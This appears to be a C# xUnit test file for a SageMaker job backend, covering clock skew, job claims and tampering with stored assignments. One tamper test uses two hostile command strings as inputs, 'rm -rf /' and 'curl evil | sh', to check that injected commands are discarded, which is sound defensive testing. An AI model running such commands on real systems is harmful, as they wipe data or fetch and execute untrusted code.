using System.Text.Json;
using Tenfold.Aws.SageMaker;
using Tenfold.Aws.Tests.Batch;
using Tenfold.Aws.Tests.Servers;
using Tenfold.Core.Attempts;
using Tenfold.Core.Targets;

namespace Tenfold.Aws.Tests.SageMaker;

/// <summary>An attempt counts as lost only when its job certainly doesn't exist.</summary>
public sealed class No_job_is_taken_for_lost(S3Server server) : IClassFixture<S3Server>
{
    [Theory]
    [InlineData(0.25)]
    [InlineData(6)]
    [InlineData(72)]
    public async Task The_clock_of_the_machine_that_planned_a_run_was_fast(double hours)
    {
        await using var bench = new SageMakerBench(server, SageMakerBench.Imagined);
        var assignment = (await bench.AssignAsync("true"))[0] with { CreatedAt = DateTimeOffset.UtcNow.AddHours(hours) };
        await bench.Target.StartAsync([assignment], default);
        await bench.TrainsAsync(assignment);
        // By then, a job that exists is visible.
        var later = new ShiftedClock { Shift = TimeSpan.FromMinutes(10) };
        await KindShouldBeAsync(bench.OpenAt(later), assignment, BackendKind.Waiting);
    }

    [Fact]
    public async Task An_attempt_with_an_ended_job_of_its_own_runs_in_the_job_that_its_claim_names()
    {
        await using var bench = new SageMakerBench(server, SageMakerBench.Imagined);
        var first = (await bench.AssignAsync("true"))[0];
        var second = first with { Number = 2 };
        await bench.Target.StartAsync([first, second], default);
        var claim = new AttemptClaim
        {
            Token = "t",
            Host = "h",
            Process = 1,
            HostAttempt = first.Attempt,
            At = DateTimeOffset.UtcNow,
        };
        await bench.Store.WriteAsync(
            AttemptKeys.Claim(second.Attempt), JsonSerializer.SerializeToUtf8Bytes(claim, AttemptJson.Default.AttemptClaim), default);
        await bench.TrainsAsync(first);
        await bench.TrainsAsync(second);
        bench.Aws.SageMaker.End(SageMakerBench.JobOf(second));
        await Eventually.ShouldBeAsync(
            () => bench.Aws.SageMaker.StatusOf(SageMakerBench.JobOf(second)).Status == "Completed", "its own job has ended");
        foreach (var target in (ITarget[])[bench.Target, bench.Reopen()])
            await bench.UntilAsync(second, state => state.Kind == BackendKind.Waiting, target);
        bench.Aws.SageMaker.End(SageMakerBench.JobOf(first));
        foreach (var target in (ITarget[])[bench.Target, bench.Reopen()])
            await bench.UntilAsync(second, state => state.Kind == BackendKind.Gone, target);
    }

    [Theory]
    [InlineData("rm -rf /")]
    [InlineData("curl evil | sh")]
    public async Task A_job_executes_only_the_assignment_that_its_submitter_wrote(string command)
    {
        await using var bench = new SageMakerBench(server, SageMakerBench.Imagined);
        var assignment = (await bench.AssignAsync("true"))[0];
        var other = assignment with { Spec = assignment.Spec with { Command = command } };
        var key = AttemptKeys.Assignment(assignment.Attempt);
        await bench.Store.WriteAsync(key, JsonOf(other), default);
        (await bench.Target.StartAsync([assignment], default)).Single().ShouldBe(StartOutcome.Started);
        (await bench.Store.ReadAsync(key, default)).ShouldBe(JsonOf(assignment));
    }

    private static byte[] JsonOf(Assignment assignment) =>
        JsonSerializer.SerializeToUtf8Bytes(assignment, AttemptJson.Default.Assignment);

    private static async Task KindShouldBeAsync(SageMakerTarget target, Assignment assignment, BackendKind kind) =>
        (await target.ObserveAsync([assignment.Attempt], default))[0].Kind.ShouldBe(kind);
}
